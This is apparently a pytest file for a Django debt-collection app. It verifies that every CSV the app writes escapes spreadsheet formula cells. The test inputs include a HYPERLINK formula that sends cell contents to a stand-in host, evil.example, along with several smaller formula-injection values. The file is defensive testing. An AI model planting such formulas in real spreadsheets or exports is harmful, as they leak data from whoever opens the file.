"""Every CSV the product writes neutralises cells that a spreadsheet would run as formulas: the feeds'
rejects files, the agency export and upload rejects, the commission statement, the letter manifest."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pyarrow as pa
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from arrears.ledger.models import Borrower
from arrears.spreadsheet import neutralise
from tests.e2e.test_agencies_portal import world  # noqa: F401 (fixture)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
pytestmark = pytest.mark.django_db


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _cells(text: str) -> list[str]:
    return [cell for row in _rows(text) for cell in row]


def _runnable(cells: list[str]) -> list[str]:
    """The cells a spreadsheet program would run."""
    return [cell for cell in cells if neutralise(cell) != cell]


def test_a_feeds_rejects_file(tmp_path):
    from arrears.feeds.rejects import write_rejects

    rejects = pa.table({"row": [1], "field": ["borrower_name"], "reason_zh": ["无效"], "reason_en": ["invalid"]})
    originals = pa.table({"loan_id": ["L-1"], "borrower_name": [FORMULA], "national_id": ["11010519491231002X"]})
    path = write_rejects(tmp_path / "loans.csv", rejects, originals)
    cells = _cells(path.read_text(encoding="utf-8-sig"))
    assert "'" + FORMULA in cells and _runnable(cells) == []


def test_the_agency_case_export(client, world):  # noqa: F811
    Borrower.objects.filter(pk=world["mine"].loan.borrower_id).update(name=FORMULA)
    client.force_login(world["a_user"])
    cells = _cells(client.get("/agencies/portal/export.csv").content.decode("utf-8-sig"))
    # the name is masked after its first character, which is kept, and neutralised
    assert any(cell.startswith("'=") for cell in cells) and _runnable(cells) == []


def test_an_upload_rejects_file(client, world):  # noqa: F811
    client.force_login(world["a_user"])
    out = io.StringIO()
    csv.writer(out).writerows([["loan", "channel", "outcome", "attempted_at", "promise_amount", "promise_due", "note"],
                               ["-1+1", "call", "no_answer", "x", "", "", FORMULA]])
    body = out.getvalue()
    client.post("/agencies/portal/upload/", {"file": SimpleUploadedFile("r.csv", body.encode(), content_type="text/csv")})
    from arrears.agencies.models import ResultUpload

    cells = _cells(client.get(f"/agencies/portal/uploads/{ResultUpload.objects.get().pk}/rejects.csv").content.decode())
    assert "'" + FORMULA in cells and "'-1+1" in cells and _runnable(cells) == []


def test_a_commission_statement():
    from arrears.agencies.commission import StatementLine
    from arrears.agencies.statements import Statement, statement_csv

    line = StatementLine(
        placement_id=1, loan_reference="@SUM(A1:A9)", bucket="M2", placed_on=dt.date(2026, 3, 1),
        ended_on=None, placed_amount=100, recovered=-50, recovery_bp=0, rate_bp=1200, commission=0,
    )
    cells = _cells(statement_csv(Statement(agency_id=1, month=dt.date(2026, 3, 1), lines=(line,))))
    assert "'@SUM(A1:A9)" in cells and "-50" in cells and _runnable(cells) == []  # a negative amount stays a number


def test_the_letter_manifest(tmp_path):
    from arrears.channels.letter import LetterChannel
    from tests.integration.test_channels_protocols import message

    channel = LetterChannel(name="print", directory=tmp_path, render_pdf=lambda msg: b"%PDF-1.7\n%%EOF\n")
    channel.send(message(channel="letter", to="+1+1", extra={"batch": "2026-03-01", "recipient": FORMULA}))
    cells = _cells((tmp_path / "2026-03-01" / "manifest.csv").read_text(encoding="utf-8"))
    assert "'" + FORMULA in cells and "'+1+1" in cells and _runnable(cells) == []
